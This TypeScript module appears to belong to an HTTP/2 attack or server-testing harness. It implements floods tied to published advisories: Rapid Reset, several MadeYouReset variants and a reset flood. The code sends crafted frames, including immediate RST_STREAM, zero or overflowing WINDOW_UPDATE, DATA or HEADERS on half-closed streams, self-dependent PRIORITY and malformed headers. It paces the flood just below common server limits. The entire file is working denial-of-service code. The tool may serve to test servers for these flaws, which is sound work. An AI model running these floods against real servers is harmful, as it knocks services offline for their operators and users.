import {
  anyFrame,
  data,
  headers,
  type Octets,
  priority,
  rstStream,
  windowUpdate,
} from '../wire/frames'
import { joined, literal } from '../wire/header-blocks'
import type { Attack } from './attack'
import { floodOfStreams } from './floods'
import type { Hostile } from './hostile'

/*
 * Streams that end before their responses do, by the client's doing.
 */

/** Just below what most servers allow: 1,000 at once, 33 a second. */
const BELOW = { burst: 900, perSecond: 30 }

const LARGEST_WINDOW = 2 ** 31 - 1

function resets(
  name: string,
  advisory: string,
  sends: string,
  make: (host: Hostile) => (streamId: number) => readonly Octets[],
  more: Partial<Attack> = {},
): Attack {
  return {
    name,
    advisory,
    sends,
    ...more,
    async run(host) {
      await floodOfStreams(host, await host.open(), make(host), BELOW)
    },
  }
}

/** A form of MadeYouReset: the client's fault makes the server reset a stream whose handler works. */
function madeYouReset(
  form: string,
  sends: string,
  fault: (streamId: number, request: Octets) => readonly Octets[],
): Attack {
  return {
    name: `made-you-reset-${form}`,
    advisory: 'CVE-2025-8671',
    sends,
    async run(host) {
      // Where handlers don't wait, the response does, for a window.
      const connection = await host.open({ window: 'none' })
      const request = host.request(host.slowPath)
      const make = (streamId: number) => [headers(streamId, request), ...fault(streamId, request)]
      await floodOfStreams(host, connection, make, BELOW)
    },
  }
}

export const RESETS: readonly Attack[] = [
  resets('rapid-reset', 'CVE-2023-44487', 'Requests, each reset at once.', (host) => {
    const block = host.request()
    return (streamId) => [headers(streamId, block), rstStream(streamId)]
  }),
  resets(
    'rapid-reset-slow-handlers',
    'CVE-2023-44487',
    'Requests whose handlers take 20 s, each reset at once.',
    (host) => {
      const block = host.request('/slow')
      return (streamId) => [headers(streamId, block), rstStream(streamId)]
    },
    { needs: ['application', 'waiting-handlers'] },
  ),
  resets(
    'rapid-reset-uploads',
    'CVE-2023-44487',
    'Uploads of 16 KiB that no handler reads, each reset at once.',
    (host) => {
      const block = host.request('/never-reads', 'POST')
      const body = new Uint8Array(16_384)
      return (streamId) => [
        headers(streamId, block, { end: false }),
        data(streamId, body),
        rstStream(streamId),
      ]
    },
    { needs: ['application', 'waiting-handlers'] },
  ),
  madeYouReset('window-zero', 'Requests, each followed by WINDOW_UPDATE of 0.', (streamId) => [
    windowUpdate(streamId, 0),
  ]),
  madeYouReset(
    'window-overflow',
    'Requests, each followed by a WINDOW_UPDATE beyond the largest window.',
    (streamId) => [windowUpdate(streamId, 1), windowUpdate(streamId, LARGEST_WINDOW)],
  ),
  madeYouReset(
    'headers-after-end',
    'Requests, each followed by HEADERS on its half-closed stream.',
    (streamId, request) => [headers(streamId, request)],
  ),
  madeYouReset(
    'data-after-end',
    'Requests, each followed by DATA on its half-closed stream.',
    (streamId) => [data(streamId, Uint8Array.of(1))],
  ),
  madeYouReset(
    'priority-length',
    'Requests, each followed by PRIORITY of four octets.',
    (streamId) => [anyFrame(2, 0, streamId, new Uint8Array(4))],
  ),
  madeYouReset(
    'priority-self',
    'Requests, each followed by PRIORITY that depends on itself.',
    (streamId) => [priority(streamId, streamId)],
  ),
  resets(
    'made-you-reset-content-length',
    'CVE-2025-8671',
    'Uploads with more DATA than `content-length` says.',
    (host) => {
      const block = host.request(host.slowPath, 'POST', [['content-length', '1']])
      const body = new Uint8Array(2)
      return (streamId) => [headers(streamId, block, { end: false }), data(streamId, body, true)]
    },
  ),
  resets(
    'malformed-requests',
    'CVE-2025-8671',
    'Requests with an upper-case field name.',
    (host) => {
      const block = joined([host.request(), literal('Upper', 'case')])
      return (streamId) => [headers(streamId, block)]
    },
  ),
  {
    name: 'reset-flood-unread',
    advisory: 'CVE-2019-9514',
    sends: 'Malformed requests, from a client that reads no RST_STREAM.',
    async run(host) {
      const block = joined([host.request(), literal('Upper', 'case')])
      const connection = await host.open({ reads: false })
      await floodOfStreams(host, connection, (streamId) => headers(streamId, block), BELOW)
    },
  },
]
